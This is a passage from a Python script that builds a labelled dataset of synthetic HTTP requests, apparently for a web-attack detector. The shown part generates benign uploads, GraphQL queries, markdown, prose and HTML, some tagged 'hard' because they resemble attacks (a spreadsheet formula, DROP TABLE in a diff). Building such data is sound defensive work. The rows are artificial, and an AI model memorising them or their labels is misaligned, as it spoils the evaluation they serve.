    ("index.php.txt", True),
    (".env.example", True),
    ("error_log (1).txt", True),
    ("cat-pictures.tar.gz", False),
    ("invoice_8812.pdf", False),
    ("présentation.key", False),
    ("backup 2026-12-01 03:00.sql.gz", True),
]
FILE_CONTENTS = [
    (
        "text/csv",
        'date,description,amount\r\n2026-12-01,"Coffee, large",3.50\r\n2026-12-02,Train ticket,12.80\r\n2026-12-03,"=SUM(C2:C3)",\r\n',
        True,
    ),
    ("text/plain", "Shopping list:\n- milk\n- eggs (free range)\n- 2x bread\n", False),
    (
        "text/markdown",
        "# Meeting notes\n\n* Decided to **drop** the legacy importer.\n* Alice to update the `union` of both lists.\n",
        True,
    ),
    (
        "image/svg+xml",
        '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2 2 22h20z" fill="#f90"/></svg>',
        True,
    ),
    (
        "application/json",
        '{"name": "my-app", "version": "1.0.0", "scripts": {"start": "node server.js", "test": "jest --coverage"}}',
        True,
    ),
    ("application/x-yaml", "server:\n  port: 8080\n  host: 0.0.0.0\nlogging:\n  level: info\n", True),
    (
        "text/plain",
        "Dear team,\n\nAttached is the signed copy. Let me know if anything's missing.\n\nBest,\nRaúl\n",
        False,
    ),
    (
        "text/calendar",
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Quarterly review\r\nDTSTART:20261210T140000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
        False,
    ),
    ("text/vcard", "BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Seán O'Brien\r\nEMAIL:sean@example.ie\r\nEND:VCARD\r\n", False),
    (
        "application/xml",
        '<?xml version="1.0" encoding="UTF-8"?>\n<catalog><book id="bk101"><title>XML Developer\'s Guide</title><price>44.95</price></book></catalog>',
        True,
    ),
]


def benign_files():
    g = B("benign_files")
    for i, (name, hard) in enumerate(FILE_NAMES):
        k = i % 4
        ctype, content, _ = FILE_CONTENTS[i % len(FILE_CONTENTS)]
        if k in (0, 1):
            g.multipart(
                name,
                hard,
                RNG.choice(["files.docuvault.com", "api.helpdeskr.com", "drive.cloudnimbus.net"]),
                RNG.choice(["/upload", "/v1/tickets/5521/attachments", "/api/v3/files"]),
                [
                    part("folder", RNG.choice(["inbox", "Finance/2026", "Shared with me"])),
                    part("file", content, PH, ctype),
                ],
            )
        elif k == 2:
            m = RNG.choice(["GET", "GET", "DELETE"])
            g.path(
                name,
                hard,
                "files.docuvault.com",
                "/api/v2/files/{}",
                query="download=1" if m == "GET" else "",
                method=m,
            )
        else:
            g.json(
                name,
                hard,
                "drive.cloudnimbus.net",
                "/api/v3/files/" + rhex(12),
                {"name": PH, "parent": "root"},
                method="PATCH",
            )
    for i, (ctype, content, hard) in enumerate(FILE_CONTENTS * 2):
        ext = {
            "text/csv": "csv",
            "text/plain": "txt",
            "text/markdown": "md",
            "image/svg+xml": "svg",
            "application/json": "json",
            "application/x-yaml": "yml",
            "text/calendar": "ics",
            "text/vcard": "vcf",
            "application/xml": "xml",
        }[ctype]
        g.multipart(
            content,
            hard,
            "drive.cloudnimbus.net",
            "/api/v3/upload",
            [part("parent", "root"), part("file", PH, f"upload-{i + 1}.{ext}", ctype)],
        )
    for _ in range(10):
        name = f"{RNG.choice(['invoice', 'receipt', 'statement', 'photo', 'scan'])}_{rdigits(4)}.{RNG.choice(['pdf', 'jpg', 'png'])}"
        g.query(name, False, "files.docuvault.com", "/download", "filename", [("id", rhex(10))])
    g.query(
        "Annual Report 2025 (draft) - v3 [final].pdf",
        True,
        "files.docuvault.com",
        "/download",
        "filename",
        [("id", rhex(10))],
    )
    g.query("reports/2026/Q4/summary.pdf", True, "files.docuvault.com", "/download", "path", [("id", rhex(10))])
    g.query("Finance & Legal/Contracts/2026", True, "drive.cloudnimbus.net", "/api/v3/folders", "path", [])


# ---------------------------------------------------------------- graphql
GQL = [
    (
        "GetUser",
        "query GetUser($id: ID!) {\n  user(id: $id) {\n    id\n    name\n    email\n    avatarUrl(size: 96)\n  }\n}",
        {"id": "u_4411"},
        False,
    ),
    (
        "ListOrders",
        "query ListOrders($first: Int!, $after: String) {\n  orders(first: $first, after: $after, orderBy: {field: CREATED_AT, direction: DESC}) {\n    edges { node { id total { amount currency } status } }\n    pageInfo { hasNextPage endCursor }\n  }\n}",
        {"first": 20, "after": None},
        False,
    ),
    (
        "AddToCart",
        "mutation AddToCart($sku: String!, $qty: Int!) {\n  addToCart(input: {sku: $sku, quantity: $qty}) {\n    cart { id itemCount subtotal }\n    errors { field message }\n  }\n}",
        {"sku": "MUG-01", "qty": 2},
        False,
    ),
    (
        "Search",
        "query Search($q: String!) {\n  search(query: $q) {\n    __typename\n    ... on Book { title author }\n    ... on Author { name }\n    ... on Publisher { name country }\n  }\n}",
        {"q": "union station history"},
        True,
    ),
    (
        "IntrospectionQuery",
        "query IntrospectionQuery {\n  __schema {\n    queryType { name }\n    mutationType { name }\n    types { kind name fields(includeDeprecated: true) { name } }\n  }\n}",
        {},
        True,
    ),
    (
        "DeleteComment",
        "mutation DeleteComment($id: ID!) {\n  deleteComment(id: $id) { id deletedAt }\n}",
        {"id": "c_8812"},
        True,
    ),
    (
        "HasuraUsers",
        "query HasuraUsers($pattern: String!) {\n  users(where: {_or: [{email: {_ilike: $pattern}}, {name: {_ilike: $pattern}}]}, order_by: {created_at: desc}, limit: 25) {\n    id\n    email\n  }\n}",
        {"pattern": "%o'brien%"},
        True,
    ),
    (
        "ProductFields",
        "fragment ProductFields on Product {\n  id\n  title\n  price { amount currency }\n}\n\nquery Products {\n  products(first: 12) { nodes { ...ProductFields } }\n}",
        {},
        False,
    ),
    (
        "UpdateProfile",
        "mutation UpdateProfile($input: ProfileInput!) {\n  updateProfile(input: $input) { id bio website }\n}",
        {"input": {"bio": "I <3 trail running & coffee; don't @ me", "website": "https://kim.example.com"}},
        True,
    ),
    (
        "Viewer",
        "{ viewer { login repositories(first: 5, orderBy: {field: STARGAZERS, direction: DESC}) { nodes { name stargazerCount } } } }",
        {},
        False,
    ),
    (
        "DropShipQuote",
        "query DropShipQuote($zip: String!) {\n  dropShipQuote(destinationZip: $zip) { carrier days price }\n}",
        {"zip": "94105"},
        True,
    ),
    (
        "OnOrderUpdated",
        "subscription OnOrderUpdated($id: ID!) {\n  orderUpdated(id: $id) { id status updatedAt }\n}",
        {"id": "o_2291"},
        False,
    ),
    (
        "CreateIssue",
        "mutation CreateIssue($input: CreateIssueInput!) {\n  createIssue(input: $input) { issue { number url } }\n}",
        {
            "input": {
                "repositoryId": "R_kgDO" + "abc123",
                "title": "SELECT dropdown loses focus",
                "body": "Steps:\n1. Open `/settings`\n2. Click the <select> element\n3. Press Tab",
            }
        },
        True,
    ),
    (
        "Feed",
        "query Feed($cursor: String) {\n  feed(after: $cursor) {\n    items { id text author { handle } }\n  }\n}",
        {"cursor": b64url(rbytes(12))},
        False,
    ),
    ("Exec", "query Exec { executiveSummary(quarter: Q4, year: 2026) { headline bullets } }", {}, True),
    ("ScriptList", "query ScriptList { scripts(filter: {status: APPROVED}) { id title author } }", {}, True),
    (
        "Aliased",
        "query Aliased {\n  small: image(width: 100) { url }\n  large: image(width: 1200) { url }\n}",
        {},
        False,
    ),
    (
        "Directives",
        "query Directives($withEmail: Boolean!) {\n  me { id name email @include(if: $withEmail) }\n}",
        {"withEmail": True},
        False,
    ),
    ("SetPrefs", 'mutation SetPrefs { setPreferences(input: {theme: DARK, locale: "en-IE"}) { ok } }', {}, False),
    (
        "Where",
        "query Where($w: order_bool_exp!) {\n  orders(where: $w) { id total }\n}",
        {"w": {"_and": [{"status": {"_eq": "paid"}}, {"total": {"_gt": 100}}]}},
        True,
    ),
]


def benign_graphql():
    g = B("benign_graphql")
    eps = [
        ("graphql.trellis.app", "/graphql"),
        ("api.cartwheel.io", "/graphql"),
        ("api.gitforge.dev", "/graphql"),
        ("hasura.ledgerly.app", "/v1/graphql"),
    ]
    for rep in range(3):
        for i, (op, q, variables, hard) in enumerate(GQL):
            host, path = eps[(i + rep) % len(eps)]
            if rep == 0:
                g.json(
                    q,
                    hard,
                    host,
                    path,
                    {"operationName": op, "query": PH, "variables": variables},
                    extra={"Authorization": "Bearer " + make_jwt(jwt_claims(0))},
                )
            elif rep == 1:
                if len(q) < 400 and not variables:
                    g.query(q, hard, host, path, "query", [("operationName", op)])
                else:
                    g.json(
                        q.replace("\n", " "),
                        hard,
                        host,
                        path,
                        {"query": PH, "variables": variables, "operationName": op},
                    )
            else:
                if variables and i % 2 == 0:
                    key = next(iter(variables))
                    val = variables[key]
                    if isinstance(val, str):
                        # the variable value itself is the payload: hard only if it looks odd on its own
                        g.json(
                            val,
                            any(ch in val for ch in "'%<>;"),
                            host,
                            path,
                            {"operationName": op, "query": q, "variables": {**variables, key: PH}},
                        )
                        continue
                g.json(
                    q,
                    hard,
                    host,
                    path,
                    [{"operationName": op, "query": PH, "variables": variables}, {"query": "{ __typename }"}],
                )
    # persisted queries
    for _ in range(6):
        h = rhex(64)
        g.query(
            compact({"persistedQuery": {"version": 1, "sha256Hash": h}}),
            False,
            "api.cartwheel.io",
            "/graphql",
            "extensions",
            [
                ("operationName", "ProductPage"),
                ("variables", compact({"handle": RNG.choice(["blue-mug", "trail-shoe", "wool-beanie"])})),
            ],
        )
    for _ in range(9):
        sku = RNG.choice(["MUG-01", "TEE-RED-M", "BEAN-GRY", "SKL-26"])
        g.json(
            sku,
            False,
            "api.cartwheel.io",
            "/graphql",
            {
                "query": "query P($sku: String!) { product(sku: $sku) { title price { amount } } }",
                "variables": {"sku": PH},
            },
        )


# ---------------------------------------------------------------- markdown
MD_FRAGS = [
    ("## Summary\n\nThis PR fixes the login redirect loop reported in #412.\n", False),
    ("### Steps to reproduce\n\n1. Go to `/settings`\n2. Click **Save**\n3. See error\n", False),
    ("```sql\nSELECT id, email FROM users WHERE deleted_at IS NULL ORDER BY id DESC LIMIT 20;\n```\n", True),
    ("```bash\nrm -rf node_modules && npm ci\nnpm run build -- --mode production\n```\n", True),
    ("```python\nimport os\nprint(os.environ.get('HOME'))\n```\n", True),
    ("```js\nfetch('/api/items').then(r => r.json()).then(console.log)\n```\n", True),
    ('```html\n<button onclick="toggle()">Menu</button>\n```\n', True),
    (
        "<details>\n<summary>Full stack trace</summary>\n\n```\nTypeError: Cannot read properties of undefined (reading 'map')\n    at render (app.js:42:17)\n```\n</details>\n",
        True,
    ),
    (
        "| Endpoint | Method | Auth |\n|---|---|---|\n| `/v1/orders` | GET | token |\n| `/v1/orders/{id}` | DELETE | admin |\n",
        True,
    ),
    ("> **Note**\n> Run migrations before deploying: `./manage.py migrate`\n", True),
    ('![Screenshot](https://cdn.example.com/uploads/2026/12/screenshot.png "Checkout page")\n', False),
    ("See the [docs](https://docs.example.com/guide#setup) and the [changelog](./CHANGELOG.md).\n", False),
    ("- [x] Tests pass\n- [ ] Docs updated\n- [ ] Changelog entry\n", False),
    ("Thanks @kim! :tada: LGTM once CI is green.\n", False),
    ("<!-- TODO: remove before release -->\n", True),
    ("Footnote reference[^1].\n\n[^1]: Based on the 2025 survey.\n", False),
    ('The `<script>` tag must come *after* the `<div id="app">` element.\n', True),
    ("Use `${VAR:-default}` in your shell scripts to provide fallbacks.\n", True),
    ("Set `LOG_PATTERN=%d{HH:mm:ss} %-5level %msg%n` in `.env`.\n", True),
    ("**Breaking change:** the `exec` option was renamed to `run`.\n", True),
    ("Math: $e^{i\\pi} + 1 = 0$ and $$\\sum_{k=1}^{n} k = \\frac{n(n+1)}{2}$$\n", True),
    ("Keyboard shortcut: <kbd>Ctrl</kbd> + <kbd>Shift</kbd> + <kbd>P</kbd>\n", True),
    ("```diff\n- DROP TABLE legacy_sessions;\n+ -- keep legacy_sessions until Q1\n```\n", True),
    ("```yaml\non:\n  push:\n    branches: [main]\n```\n", False),
    ("Paths like `../shared/config.json` are resolved relative to the project root.\n", True),
    ("```php\n<?php echo date('Y'); ?>\n```\n", True),
    ("1. Preheat oven to 200°C.\n2. Mix flour & water (1:1).\n3. Bake 25–30 min.\n", False),
    ("## Q&A\n\n**Q:** Can I use `OR` in filters?\n**A:** Yes: `status:open OR status:blocked`.\n", True),
]


def benign_markdown():
    g = B("benign_markdown")
    ctx = [
        ("code.gitforge.dev", "/api/v1/repos/shop/web/issues/412/comments", "body"),
        ("code.gitforge.dev", "/api/v1/repos/shop/web/pulls", "description"),
        ("wiki.kb-lite.org", "/api/pages/onboarding", "markdown"),
        ("forum.gearheads.community", "/api/posts", "raw"),
        ("api.tasklane.io", "/v2/tasks/8812/comments", "text"),
    ]
    n = 0
    for i, (frag, hard) in enumerate(MD_FRAGS):
        host, path, key = ctx[i % len(ctx)]
        g.json(frag, hard, host, path, {key: PH, "format": "markdown"})
        n += 1
    # composed documents
    for i in range(24):
        picks = RNG.sample(MD_FRAGS, RNG.randint(2, 4))
        doc = "\n".join(f for f, _ in picks)
        hard = any(h for _, h in picks)
        k = i % 5
        if k in (0, 1):
            host, path, key = ctx[RNG.randrange(len(ctx))]
            g.json(
                doc,
                hard,
                host,
                path,
                {
                    "title": RNG.choice(["Fix checkout bug", "Onboarding", "Release notes 2.4", "Weekly update"]),
                    key: PH,
                },
                method=RNG.choice(["POST", "PUT", "PATCH"]),
            )
        elif k == 2:
            g.form(
                doc,
                hard,
                "forum.gearheads.community",
                "/post/reply",
                "message",
                [("thread", rdigits(4)), ("format", "md")],
            )
        elif k == 3:
            g.multipart(
                doc,
                hard,
                "wiki.kb-lite.org",
                "/api/pages/import",
                [part("space", "ENG"), part("file", PH, "page.md", "text/markdown")],
            )
        else:
            g.json(
                doc, hard, "cms.saltmarsh.dev", "/api/posts", {"title": "Draft", "body_markdown": PH, "status": "draft"}
            )
    for _ in range(23):
        title = RNG.choice(["Release v2.4.1", "Sprint 48 notes", "Holiday schedule", "New office Wi-Fi"])
        doc = f"# {title}\n\n{RNG.choice(['Small fixes and improvements.', 'Please review by Friday.', 'Office closed 24-26 Dec.', 'See pinned message.'])}\n"
        g.json(doc, False, "wiki.kb-lite.org", "/api/pages", {"title": title, "markdown": PH})


# ---------------------------------------------------------------- prose
PROSE_HARD = [
    "I can't believe it's 50% off!!! ;-) Ordered two.",
    "Select all that apply: (a) price (b) delivery speed (c) packaging -- I'd pick (a) & (c).",
    "Meet me at Union Station at 5 -- don't be late; the 5:15 train is always full.",
    "The union of the crowns in 1603 changed everything, or so my teacher said.",
    "Exec summary: revenue up 12%, churn down 0.4pp; see table 3 for details.",
    "Our script for the school play needs a villain who shouts 'Drop the sword!'",
    'He said "drop it" and walked away -- classic Dave.',
    "Recipe: 1/2 cup sugar; 2 tbsp butter; bake @ 180°C for 20-25 min.",
    "Legal note: see § 3(a)(ii) and clause 7.1 & 7.2 of the agreement.",
    "Honestly, the delete button is way too close to 'save' -- I lost an hour of work.",
    "Where 1 person sees a problem, another sees an opportunity.",
    "Insert tab A into slot B; if it doesn't fit, check step #4 again.",
    "To whom it may concern: please update my records (new surname: O'Sullivan).",
    "The sleep study said I wake up 30x/hour... no wonder I'm tired!",
    "Rock 'n' roll, baby -- 10/10, would rock again <3",
    "Re: 'alert fatigue' -- we get ~200 pages/week; that's too many.",
    "My grandmother's union card from 1952 is framed in the hallway.",
    "Please don't shell out $300 for this; the $99 model is identical.",
    "Order by Friday for delivery before the 24th (UK mainland only).",
    "Is the cat on /r/aww yours? Asking for a friend ;)",
    "Subject: Re: Re: FW: lunch?? -- yes, 12:30 @ the usual place.",
    "We'll drop off the keys at #14 (the blue door) around 6-ish.",
    "The 'or' in 'and/or' is inclusive; the 'or' in 'either/or' isn't.",
    "Waiting for the delay to clear... 45 min and counting :(",
    "I typed <3 and it turned into a heart emoji, cute.",
    "Nous avons reçu votre commande ; elle sera expédiée d'ici 48 h.",
    "Bitte beachten Sie: Rückgabe nur mit Beleg (§ 5 AGB).",
    "Totals: €12.50 + €3.20 shipping = €15.70 (incl. VAT @ 23%).",
    "Call me at +1 (555) 010-7788 ext. 42, or email kim@example.com.",
    "Loved it -- though the 'from' field says \"null\"?",
    "Mix equal parts vinegar & water; spray; wipe; repeat.",
    "In C, = assigns and == compares; my students mix them up every year.",
    "The exec committee meets Tue/Thu; minutes go on the wiki.",
    "Our wedding hashtag is #KimAndJo2026 -- use it!",
    "She wrote 'select one' on the form but ticked three boxes.",
    "They used {curly braces} in the menu, which looked odd.",
    "Path of exile? More like path of my free time ../ gone.",
    'Chapter 3: "The Drop" -- a thriller set in 1970s Dublin.',
    "Delivery was quick; packaging <meh>; product great.",
    "Approx. 3~4 weeks; ETA = mid-January (give or take).",
]
PROSE_PLAIN = [
    "Thank you for the quick delivery, the mug is lovely.",
    "The hotel was clean and the staff were friendly.",
    "Could you please resend the confirmation email?",
    "Great book, I read it in two days.",
    "The park is beautiful in the autumn.",
    "We are closed on public holidays.",
    "The meeting has been moved to Thursday afternoon.",
    "Please find my feedback below.",
    "I would like to cancel my subscription at the end of the month.",
    "The shoes fit well and are very comfortable.",
    "Happy birthday, have a wonderful day.",
    "The train was on time today.",
    "I have attached the signed contract.",
    "The soup was a little salty but still tasty.",
    "See you at the conference next week.",
    "Our team won the regional final on Saturday.",
    "The new update made the app much faster.",
    "I left my umbrella in the taxi this morning.",
    "Looking forward to hearing from you.",
    "Kind regards from the support team.",
]


def benign_prose():
    g = B("benign_prose")
    items = [(t, True) for t in PROSE_HARD] + [(t, False) for t in PROSE_PLAIN]
    for i, (text, hard) in enumerate(items):
        k = i % 6
        if k == 0:
            g.json(
                text,
                hard,
                "api.cartwheel.io",
                "/v1/products/" + RNG.choice(["MUG-01", "TEE-RED-M", "SKL-26"]) + "/reviews",
                {"rating": RNG.randint(3, 5), "body": PH},
            )
        elif k == 1:
            g.form(text, hard, "www.bluefinch.co.uk", "/contact", "message", [("name", rname()), ("email", remail())])
        elif k == 2:
            g.json(
                text,
                hard,
                "api.helpdeskr.com",
                "/v1/tickets",
                {"subject": "Feedback", "description": PH, "priority": "normal"},
            )
        elif k == 3:
            g.json(
                text,
                hard,
                "blog.saltmarsh.dev",
                "/api/comments",
                {"post_id": RNG.randint(10, 99), "author": rname(), "body": PH},
            )
        elif k == 4:
            g.multipart(
                text,
                hard,
                "careers.staffbook.io",
                "/apply",
                [part("name", rname()), part("cover_letter", PH), part("cv", TXT_STUB, "cv.txt", "text/plain")],
            )
        else:
            g.json(text, hard, "api.postbox-tools.com", "/v2/send", {"to": remail(), "subject": "Hello", "text": PH})
    # longer email bodies
    for _ in range(10):
        n = rname()
        body = (
            f"Hi {n.split()[0]},\n\nThanks for your order #{rdigits(5)} -- it's on its way!\n\n"
            f"Tracking: https://track.shipmatic.io/{ralnum(10)}\n\nQuestions? Just reply to this email (we're here Mon-Fri, 9am-5pm).\n\n"
            f"Cheers,\nThe Northwind team\n\nP.S. Don't forget: 10% off your next order with code THANKS10."
        )
        g.json(
            body,
            False,
            "api.postbox-tools.com",
            "/v2/send",
            {"to": remail(), "subject": "Your order is on its way", "text": PH},
        )
    for _ in range(5):
        g.xml(
            RNG.choice(PROSE_HARD),
            True,
            "crm.ledgerly.app",
            "/api/notes",
            '<?xml version="1.0" encoding="UTF-8"?><note><author>'
            + RNG.choice(["kim", "jo", "ana"])
            + "</author><body>{v}</body></note>",
        )
    for _ in range(5):
        g.query(
            RNG.choice(PROSE_PLAIN),
            False,
            "feedback.tasklane.io",
            "/widget/submit",
            "comment",
            [("score", str(RNG.randint(6, 10)))],
        )


# ---------------------------------------------------------------- rich text
RICH_HARD = [
    "<p>Welcome to <strong>our</strong> store! Use code <code>WINTER10</code> at checkout.</p>",
    '<p>Read the <a href="https://blog.saltmarsh.dev/posts/hello" target="_blank" rel="noopener noreferrer">launch post</a>.</p>',
    '<img src="/media/2026/12/harbor.jpg" alt="Harbor at dusk" width="600" height="400" loading="lazy">',
    '<figure><img src="https://cdn.example.com/p/mug.webp" alt="Blue mug"><figcaption>Our best-seller</figcaption></figure>',
    '<iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="Video" frameborder="0" allow="accelerometer; encrypted-media; picture-in-picture" allowfullscreen></iframe>',
    '<table class="specs"><thead><tr><th>Size</th><th>Chest (cm)</th></tr></thead><tbody><tr><td>M</td><td>96&ndash;101</td></tr></tbody></table>',
    '<blockquote cite="https://example.com/quote"><p>&ldquo;Simplicity is prerequisite for reliability.&rdquo;</p></blockquote>',
    "<p style=\"color:#333;font-family:'Helvetica Neue',Arial,sans-serif;line-height:1.5\">Hello there,</p>",
    "<ul><li>Free shipping over &euro;50</li><li>30-day returns</li><li>Union-made in Portugal</li></ul>",
    '<h2 id="select-your-plan">Select your plan</h2><p>Compare <em>Basic</em> &amp; <em>Pro</em> below.</p>',
    '<div class="callout warning"><strong>Heads up:</strong> scheduled maintenance on Dec 14, 02:00&ndash;04:00 UTC.</div>',
    '<a href="mailto:support@example.com?subject=Help%20with%20order">Email support</a>',
    "<p>Press <kbd>Ctrl</kbd>+<kbd>C</kbd> to copy &lt;script&gt; tags safely.</p>",
    '<video controls width="640" poster="/media/poster.jpg"><source src="/media/intro.mp4" type="video/mp4">Your browser does not support video.</video>',
    "<pre><code class=\"language-sql\">SELECT * FROM orders WHERE status = 'paid';</code></pre>",
    '<span data-mention="user_4411" class="mention">@kim</span> can you check this?',
    '<p>Drop us a line at <a href="tel:+35321490000">+353 21 490 0000</a>.</p>',
    '<picture><source srcset="/img/hero.avif" type="image/avif"><img src="/img/hero.jpg" alt="Hero"></picture>',
    '<table style="width:100%;border-collapse:collapse" cellpadding="0" cellspacing="0" role="presentation"><tr><td align="center" bgcolor="#f4f4f4">Your receipt</td></tr></table>',
    "<details><summary>Shipping FAQ</summary><p>Orders ship within 1&ndash;2 business days.</p></details>",
    '<p><a href="https://shop.example.com/cart?add=MUG-01&amp;qty=2&amp;utm_source=email">Buy again</a></p>',
    '<svg width="24" height="24" viewBox="0 0 24 24" aria-hidden="true"><path d="M12 2l3 7h7l-5.5 4 2 7L12 16l-6.5 4 2-7L2 9h7z"/></svg>',
    '<p>Our <abbr title="Chief Executive Officer">CEO</abbr> said: &quot;We&#39;re just getting started.&quot;</p>',
    '<input type="checkbox" checked disabled> Select all that apply',
    '<p class="lead">Meet the team behind <b>Harbor&nbsp;Lights</b> &mdash; est. 1998.</p>',
    '<ol start="3"><li>Whisk eggs</li><li>Fold in flour &amp; sugar</li></ol>',
    '<a href="#top" class="back-to-top" aria-label="Back to top">&uarr;</a>',
    "<p>Math: 3 &lt; 5 &amp;&amp; 5 &gt; 2</p>",
    "<div style=\"background-image:url('/media/banner.jpg');background-size:cover;height:240px\"></div>",
    '<form action="/newsletter" method="post"><input type="email" name="email" placeholder="you@example.com"><button type="submit">Subscribe</button></form>',
    '<style>.promo{color:#c00;font-weight:700}</style><p class="promo">Sale ends Sunday!</p>',
    '<noscript><img src="/pixel.gif" alt="" width="1" height="1"></noscript>',
    '<object data="/docs/menu.pdf" type="application/pdf" width="100%" height="500"><a href="/docs/menu.pdf">Download the menu</a></object>',
    "<p>Use the <code>onload</code> attribute sparingly; prefer <code>addEventListener</code>.</p>",
    '<embed src="https://maps.example.com/embed?pb=!1m18!1m12" width="600" height="450">',
]
RICH_PLAIN = [
    "<p>Hello world</p>",
    "<p>Thanks for reading!</p>",
    "<h1>December newsletter</h1>",
    "<p>Opening hours: 9&ndash;5</p>",
    "<ul><li>Milk</li><li>Eggs</li></ul>",
    "<p><em>Coming soon.</em></p>",
    "<p>See you next week.</p>",
    "<h3>Contact</h3>",
    "<p>All prices include VAT.</p>",
    "<p><strong>New:</strong> gift cards</p>",
    "<br>",
    "<hr>",
]


def benign_richtext():
    g = B("benign_richtext")
    items = [(h, True) for h in RICH_HARD] + [(h, False) for h in RICH_PLAIN]
    for i, (html, hard) in enumerate(items):
        k = i % 5
        if k in (0, 1):
            g.json(
                html,
                hard,
                "cms.dailyharbor.news",
                "/api/v2/articles/" + rdigits(4),
                {"title": "Harbor festival", "content_html": PH, "status": "draft"},
                method="PUT",
            )
        elif k == 2:
            g.form(
                html,
                hard,
                "admin.pressroom.media",
                "/admin/posts/save",
                "content",
                [("title", "Weekly roundup"), ("status", "publish"), ("_wpnonce", rhex(10))],
            )
        elif k == 3:
            g.json(
                html,
                hard,
                "mail.postbox-tools.com",
                "/api/campaigns",
                {"name": "Dec promo", "subject": "Winter sale", "html": PH, "list_id": rdigits(4)},
            )
        else:
            g.multipart(html, hard, "cms.saltmarsh.dev", "/api/blocks", [part("type", "html"), part("content", PH)])
    # composed pages
    for i in range(10):
        picks = RNG.sample(RICH_HARD, 3)
        page = "\n".join(picks)
        g.json(
            page,
            True,
            "cms.saltmarsh.dev",
            "/api/pages/" + RNG.choice(["home", "about", "faq", "shipping"]),
            {"blocks_html": PH, "locale": "en"},
            method="PATCH",
        )
    for _ in range(16):
        html = f"<p>Hi {RNG.choice(FIRST)},</p><p>Your order <strong>#{rdigits(5)}</strong> has shipped.</p>"
        g.json(html, False, "mail.postbox-tools.com", "/api/transactional", {"to": remail(), "html": PH})
    for _ in range(7):
        html = RNG.choice(RICH_HARD)
        g.xml(
            html,
            True,
            "feeds.readwell.app",
            "/api/feeds/publish",
            '<?xml version="1.0" encoding="UTF-8"?><entry xmlns="http://www.w3.org/2005/Atom"><title>Update</title><content type="html">{v}</content></entry>',
            mode=RNG.choice(["std", "cdata"]),
            ctype="application/atom+xml",
        )


# ============================================================================
# main
# ============================================================================
def main():
    for c in ATTACK_CATEGORIES:
        globals()["attacks_" + c]()
    for c in BENIGN_CATEGORIES:
        globals()[c]()
    with open(OUT_PATH, "w", encoding="utf-8", newline="\n") as f:
        for r in ROWS:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
    counts = {}
    for r in ROWS:
        key = (r["label"], r["category"])
        c = counts.setdefault(key, [0, 0])
        c[0] += 1
        c[1] += int(r["hard"])
    for label in ("attack", "benign"):
        tot = sum(v[0] for k, v in counts.items() if k[0] == label)
        hard = sum(v[1] for k, v in counts.items() if k[0] == label)
        print(f"{label}: {tot} rows ({hard} hard)")
        for k in sorted(k for k in counts if k[0] == label):
            print(f"  {k[1]:<22} {counts[k][0]:>4}  hard={counts[k][1]}")
    with open(OUT_PATH, "rb") as f:
        print("sha256", hashlib.sha256(f.read()).hexdigest(), OUT_PATH)


if __name__ == "__main__":
    main()
